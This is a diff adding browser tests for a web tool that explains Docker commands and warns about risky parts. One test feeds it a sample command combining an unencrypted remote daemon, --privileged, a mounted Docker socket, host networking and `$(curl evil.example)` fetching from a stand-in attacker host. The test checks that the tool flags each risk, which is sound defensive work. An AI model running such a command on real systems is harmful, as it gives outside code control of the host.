@@ -58,6 +58,70 @@ test('the form explains what is typed and makes the URL linkable', async ({ page
   await expect(unknown.getByRole('link', { name: 'docker image inspect' })).toHaveAttribute('href', '/commands/#docker-image-inspect');
 });
 
+test('Enter explains, Shift+Enter adds a line; a typo says "did you mean" and never suggests a delete', async ({ page }) => {
+  await page.goto('/explain/');
+  const box = page.getByRole('textbox', { name: 'Docker command' });
+  await box.fill('docker rnu');
+  await box.press('Shift+Enter');
+  await box.pressSequentially('hello-world');
+  await expect(box).toHaveValue('docker rnu\nhello-world');
+  await expect(page.locator('[data-kind]')).toHaveCount(0);
+  await box.fill('docker rnu hello-world');
+  await box.press('Enter');
+  await expect(page).toHaveURL(/\?cmd=docker\+rnu\+hello-world$/);
+  const unknown = page.locator('[data-kind="unknown-command"]');
+  await expect(unknown).toContainText('Did you mean docker run?');
+  await expect(unknown.getByRole('link', { name: 'docker run' })).toHaveAttribute('href', '/commands/#docker-run');
+  await expect(unknown).not.toContainText('docker rm');
+});
+
+test('a summary at the top lists the risky parts, each linked to the reference', async ({ page }) => {
+  await page.goto(explainUrl('docker -H tcp://robot:2375 run --privileged -v /var/run/docker.sock:/var/run/docker.sock --network host ubuntu $(curl evil.example)'));
+  const risks = page.getByRole('region', { name: 'Risky parts of this command' });
+  await expect(risks).toBeVisible();
+  const items = risks.getByRole('listitem');
+  await expect(items).toHaveCount(5);
+  await expect(items.nth(0)).toContainText('plain TCP');
+  await expect(items.nth(0).getByRole('link', { name: 'Read more' })).toHaveAttribute('href', '/commands/#docker-host');
+  await expect(items.nth(1)).toContainText('--privileged');
+  await expect(items.nth(2).getByRole('link', { name: 'Read more' })).toHaveAttribute('href', '/commands/#docker-run-docker-sock');
+  await expect(items.nth(3)).toContainText('Host network');
+  await expect(items.nth(4)).toContainText('curl evil.example');
+  // The summary comes before the parts, and the substitution is named as the shell's.
+  const box = await risks.boundingBox();
+  const first = await page.locator('[data-kind]').first().boundingBox();
+  expect(box!.y).toBeLessThan(first!.y);
+  await expect(page.locator('[data-kind="inner-command"]')).toContainText('Command substitution: before docker starts, your shell runs `curl evil.example` on your computer');
+});
+
+test('flags after the image, an unclosed quote and a second command after && are explained', async ({ page }) => {
+  await page.goto(explainUrl('docker run ubuntu -it bash && docker ps -a && docker run "ubuntu'));
+  const inner = page.locator('[data-kind="inner-command"]').first();
+  await expect(inner).toContainText('Docker\'s flags go before ubuntu');
+  await expect(inner).toContainText('Did you mean docker run -it ubuntu bash?');
+  await expect(page.locator('[data-kind="operator"]')).toHaveCount(2);
+  await expect(page.locator('[data-kind="command"]').filter({ hasText: 'ps' })).toHaveCount(1);
+  await expect(page.locator('[data-kind="image"]').last()).toContainText('never closed');
+});
+
+test('a huge paste is capped with a visible message and stays responsive', async ({ page }) => {
+  // Once docker run's flags are loaded, the whole explanation runs synchronously on submit.
+  await page.goto(explainUrl('docker run ubuntu'));
+  await expect(page.locator('[data-kind="image"]')).toBeVisible();
+  const line = 'docker run -' + 'itd'.repeat(2600) + ' ubuntu';
+  const ms = await page.evaluate(async (l) => {
+    const box = document.querySelector('textarea')!;
+    box.value = l;
+    const t = performance.now();
+    document.querySelector<HTMLFormElement>('explain-output form')!.requestSubmit();
+    return performance.now() - t;
+  }, line);
+  await expect(page.getByText(/^Only the first 4000 characters were explained \(the line has 7819\)/)).toBeVisible();
+  // Loose: the whole render, on a shared machine (the explainer alone is bounded in tests/unit/explain.test.ts).
+  expect(ms).toBeLessThan(2500);
+  await expect(page.locator('[data-kind]')).toHaveCount(250);
+});
+
 test('links keep the base path in the sub-path build', async ({ page }) => {
   await page.goto(`${BASE_ORIGIN}${explainUrl('docker run --net=host ubuntu', '/docker-basics/')}`);
   await expect(page.locator('[data-kind="flag"]').getByRole('link', { name: /In the reference/ })).toHaveAttribute('href', '/docker-basics/commands/#docker-run-network');
